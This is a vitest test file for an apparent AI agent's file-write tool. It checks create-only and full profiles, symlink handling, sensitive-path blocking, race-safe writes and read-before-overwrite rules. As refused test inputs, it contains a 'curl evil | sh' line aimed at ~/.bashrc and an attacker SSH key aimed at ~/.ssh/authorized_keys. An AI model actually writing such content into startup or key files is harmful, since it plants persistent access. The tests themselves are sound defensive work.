import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildToolRegistry, writeToolOptions } from '../../../src/agent/toolset.js';
import type { WriteOptions } from '../../../src/backends/types.js';
import { ToolRegistry } from '../../../src/tools/core/registry.js';
import { createWriteTool } from '../../../src/tools/files/write.js';
import { makeToolContext } from '../../support/context.js';
import { entriesUnder, harness, makeWorld, markRead, profileWith, SandboxBackend, withoutRootPrivileges } from './file-write-fixtures.js';

describe('write in create-only profiles', () => {
  it('creates a new file with exactly the given bytes, and its parent directories', async () => {
    const world = makeWorld();
    const { call } = harness(world, { mode: 'create-only', session: true });
    const content = 'id,name\r\n1,Zoë\r\n\ttabbed\n';
    const result = await call('write', { path: 'notes/deep/a.csv', content });
    expect(result.ok).toBe(true);
    expect(result.output).toBe(`created notes/deep/a.csv (3 lines, ${Buffer.byteLength(content)} B)`);
    expect(result.metadata).toEqual({ path: join(world.work, 'notes/deep/a.csv'), bytes: Buffer.byteLength(content), created: true });
    expect(readFileSync(join(world.work, 'notes/deep/a.csv'))).toEqual(Buffer.from(content, 'utf8'));
    expect(entriesUnder(world.work)).toEqual(['notes', 'notes/deep', 'notes/deep/a.csv']);
  });

  it('allows empty content', async () => {
    const world = makeWorld();
    const result = await harness(world, { mode: 'create-only', session: false }).call('write', { path: 'empty.txt', content: '' });
    expect(result.output).toBe('created empty.txt (0 lines, 0 B)');
    expect(readFileSync(join(world.work, 'empty.txt')).length).toBe(0);
  });

  it('never overwrites: the existing file stays byte for byte', async () => {
    const world = makeWorld();
    const path = join(world.work, 'report.csv');
    writeFileSync(path, 'precious\n');
    const { call, context } = harness(world, { mode: 'create-only', session: true });
    await markRead(context, path); // having read it changes nothing in create-only mode
    const result = await call('write', { path: 'report.csv', content: 'replaced' });
    expect(result.ok).toBe(false);
    expect(result.output).toMatch(/already exists; this profile only creates new files and never overwrites/);
    expect(readFileSync(path, 'utf8')).toBe('precious\n');
  });

  it('never writes through a symlink at the target, even one pointing nowhere', async () => {
    const world = makeWorld();
    const victim = join(world.outside, 'victim.txt');
    symlinkSync(victim, join(world.work, 'out.txt'));
    const result = await harness(world, { mode: 'create-only', session: false }).call('write', { path: 'out.txt', content: 'x' });
    expect(result.ok).toBe(false);
    expect(result.output).toContain('is a symbolic link; quarry never writes through a symlink');
    expect(existsSync(victim)).toBe(false);
    expect(readlinkSync(join(world.work, 'out.txt'))).toBe(victim);
  });

  it('refuses a symlinked parent directory that leads into a sensitive location', async () => {
    const world = makeWorld();
    mkdirSync(join(world.home, '.ssh'));
    symlinkSync(join(world.home, '.ssh'), join(world.work, 'keys'));
    const result = await harness(world, { mode: 'create-only', session: false }).call('write', {
      path: 'keys/authorized_keys',
      content: 'ssh-ed25519 AAAA attacker',
    });
    expect(result.ok).toBe(false);
    expect(result.output).toContain(`resolves to ${join(world.home, '.ssh/authorized_keys')}`);
    expect(entriesUnder(join(world.home, '.ssh'))).toEqual([]);
  });

  it('refuses ~/.bashrc and an absolute path into /etc', async () => {
    const world = makeWorld();
    const { call } = harness(world, { mode: 'create-only', session: false });
    const bashrc = await call('write', { path: '~/.bashrc', content: 'curl evil | sh' });
    expect(bashrc.output).toMatch(/\.bashrc is a sensitive location/);
    expect(existsSync(join(world.home, '.bashrc'))).toBe(false);
    const etc = await call('write', { path: '/etc/quarry-write-test.conf', content: 'x' });
    expect(etc.ok).toBe(false);
    expect(etc.output).toContain('/etc/ is a system directory');
    expect(existsSync('/etc/quarry-write-test.conf')).toBe(false);
  });

  it('refuses ../ escapes outside the working directory; write_roots allow an extra directory', async () => {
    const world = makeWorld();
    const refused = await harness(world, { mode: 'create-only', session: false }).call('write', { path: '../outside/x.csv', content: 'a' });
    expect(refused.ok).toBe(false);
    expect(refused.output).toContain('outside the places this profile may write');
    expect(entriesUnder(world.outside)).toEqual([]);

    const allowed = await harness(world, { mode: 'create-only', session: false, writeRoots: [world.outside] }).call('write', {
      path: '../outside/x.csv',
      content: 'a',
    });
    expect(allowed.ok).toBe(true);
    expect(allowed.output).toBe(`created ${join(world.outside, 'x.csv')} (1 line, 1 B)`);
    expect(readFileSync(join(world.outside, 'x.csv'), 'utf8')).toBe('a');
  });

  it('writes exclusively: a file that appears after the check is not replaced', async () => {
    const world = makeWorld();
    const path = join(world.work, 'race.txt');
    // Another process creates the file between the policy check and the write.
    class RacingBackend extends SandboxBackend {
      override async writeFileAtomic(target: string, data: Buffer, options: WriteOptions): Promise<void> {
        writeFileSync(target, 'written by someone else');
        return super.writeFileAtomic(target, data, options);
      }
    }
    const registry = new ToolRegistry();
    registry.register(createWriteTool(writeToolOptions(profileWith('create-only'))));
    const context = makeToolContext({ workingDir: world.work, backend: new RacingBackend(world.home, world.tmp) });
    const result = await registry.run('write', { path: 'race.txt', content: 'mine' }, context);
    expect(result.ok).toBe(false);
    expect(result.output).toBe('could not write race.txt: a file appeared there while writing; nothing was overwritten; no file was changed');
    expect(readFileSync(path, 'utf8')).toBe('written by someone else');
    expect(entriesUnder(world.work)).toEqual(['race.txt']);
  });

  it('is offered by the toolset in create-only profiles, without edit', () => {
    expect(buildToolRegistry(profileWith('create-only')).names()).toContain('write');
    expect(buildToolRegistry(profileWith('create-only')).names()).not.toContain('edit');
    expect(buildToolRegistry(profileWith('off')).names()).not.toContain('write');
    expect(buildToolRegistry(profileWith('full')).names()).toEqual(expect.arrayContaining(['write', 'edit']));
  });

  it('refuses to run at all when the profile has file_write off (fails closed)', async () => {
    const world = makeWorld();
    const result = await harness(world, { mode: 'off', session: false }).call('write', { path: 'a.txt', content: 'x' });
    expect(result.ok).toBe(false);
    expect(result.output).toContain('file_write is off');
    expect(entriesUnder(world.work)).toEqual([]);
  });
});

describe('write in full profiles', () => {
  it('overwrites without a read in `quarry tool` (no ledger), keeping the file mode', async () => {
    const world = makeWorld();
    const path = join(world.work, 'config.ini');
    writeFileSync(path, 'old content\n');
    chmodSync(path, 0o640);
    const result = await harness(world, { mode: 'full', session: false }).call('write', { path: 'config.ini', content: 'new\n' });
    expect(result.ok).toBe(true);
    expect(result.output).toBe('overwrote config.ini (1 line, 4 B; was 12 B)');
    expect(result.metadata.created).toBe(false);
    expect(readFileSync(path, 'utf8')).toBe('new\n');
    expect(statSync(path).mode & 0o777).toBe(0o640);
    expect(entriesUnder(world.work)).toEqual(['config.ini']);
  });

  it('in a session, refuses to overwrite a file that was not read, then allows it after a read', async () => {
    const world = makeWorld();
    const path = join(world.work, 'a.txt');
    writeFileSync(path, 'original\n');
    const { call, context } = harness(world, { mode: 'full', session: true });
    const refused = await call('write', { path: 'a.txt', content: 'x' });
    expect(refused.ok).toBe(false);
    expect(refused.output).toBe(`refused: ${path} exists and has not been read in this session; read it first (read or grep), then retry`);
    expect(readFileSync(path, 'utf8')).toBe('original\n');

    await markRead(context, path);
    const written = await call('write', { path: 'a.txt', content: 'second\n' });
    expect(written.ok).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe('second\n');
    // The ledger now knows the version it wrote: writing and editing again need no new read.
    expect((await call('write', { path: 'a.txt', content: 'third\n' })).ok).toBe(true);
    const edited = await call('edit', { path: 'a.txt', old_string: 'third', new_string: 'fourth' });
    expect(edited.ok).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe('fourth\n');
  });

  it('in a session, refuses a file that changed on disk after it was read', async () => {
    const world = makeWorld();
    const path = join(world.work, 'a.txt');
    writeFileSync(path, 'v1\n');
    const { call, context } = harness(world, { mode: 'full', session: true });
    await markRead(context, path);
    writeFileSync(path, 'v2 by the user\n');
    utimesSync(path, new Date(), new Date(Date.now() + 5000));
    const result = await call('write', { path: 'a.txt', content: 'model' });
    expect(result.ok).toBe(false);
    expect(result.output).toContain('changed on disk since it was read in this session; read it again');
    expect(readFileSync(path, 'utf8')).toBe('v2 by the user\n');
  });

  it('in a session, creates a new file without a read', async () => {
    const world = makeWorld();
    const result = await harness(world, { mode: 'full', session: true }).call('write', { path: 'new/b.txt', content: 'b' });
    expect(result.ok).toBe(true);
    expect(readFileSync(join(world.work, 'new/b.txt'), 'utf8')).toBe('b');
  });

  it('writes through a symlink to its target and keeps the link', async () => {
    const world = makeWorld();
    const target = join(world.work, 'real.txt');
    writeFileSync(target, 'old');
    symlinkSync('real.txt', join(world.work, 'link.txt'));
    const result = await harness(world, { mode: 'full', session: false }).call('write', { path: 'link.txt', content: 'new' });
    expect(result.ok).toBe(true);
    expect(lstatSync(join(world.work, 'link.txt')).isSymbolicLink()).toBe(true);
    expect(readFileSync(target, 'utf8')).toBe('new');
    expect(result.metadata.path).toBe(target);
  });

  it('refuses a symlink whose target does not exist instead of replacing the link', async () => {
    const world = makeWorld();
    symlinkSync(join(world.outside, 'missing.txt'), join(world.work, 'dangling.txt'));
    const result = await harness(world, { mode: 'full', session: false }).call('write', { path: 'dangling.txt', content: 'x' });
    expect(result.output).toBe('refused: dangling.txt is a symbolic link whose target does not exist');
    expect(lstatSync(join(world.work, 'dangling.txt')).isSymbolicLink()).toBe(true);
    expect(entriesUnder(world.outside)).toEqual([]);
  });

  it('refuses a directory path with a clear message', async () => {
    const world = makeWorld();
    mkdirSync(join(world.work, 'data'));
    const { call } = harness(world, { mode: 'full', session: false });
    expect((await call('write', { path: 'data', content: 'x' })).output).toBe('data is a directory; give the path of a file');
    expect((await call('write', { path: 'fresh/', content: 'x' })).output).toBe('fresh/ ends with a slash, so it names a directory; give the path of a file');
    expect(entriesUnder(world.work)).toEqual(['data']);
  });

  it('a failed overwrite (read-only directory) leaves the old file byte-identical and no temporary file', async () => {
    const world = makeWorld();
    const dir = join(world.work, 'locked');
    mkdirSync(dir);
    const path = join(dir, 'data.bin');
    const original = Buffer.from([0xef, 0xbb, 0xbf, 0x61, 0x0d, 0x0a, 0x00, 0xff]);
    writeFileSync(path, original);
    chmodSync(path, 0o666);
    chmodSync(dir, 0o555);
    const { call } = harness(world, { mode: 'full', session: false });
    const result = await withoutRootPrivileges(world.root, () => call('write', { path: 'locked/data.bin', content: 'new' }));
    chmodSync(dir, 0o755);
    expect(result.ok).toBe(false);
    expect(result.output).toBe('could not write locked/data.bin: permission denied (the file or its directory is not writable); no file was changed');
    expect(readFileSync(path)).toEqual(original);
    expect(entriesUnder(dir)).toEqual(['data.bin']);
  });

  it('a path whose parent is a file fails clearly and leaves nothing behind', async () => {
    const world = makeWorld();
    writeFileSync(join(world.work, 'plain.txt'), 'I am a file');
    const { call } = harness(world, { mode: 'full', session: false });
    const result = await call('write', { path: 'plain.txt/child.txt', content: 'x' });
    expect(result.ok).toBe(false);
    expect(result.output).toBe('could not write plain.txt/child.txt: a component of the path is a file, not a directory; no file was changed');
    expect(readFileSync(join(world.work, 'plain.txt'), 'utf8')).toBe('I am a file');
    expect(entriesUnder(world.work)).toEqual(['plain.txt']);
  });
});
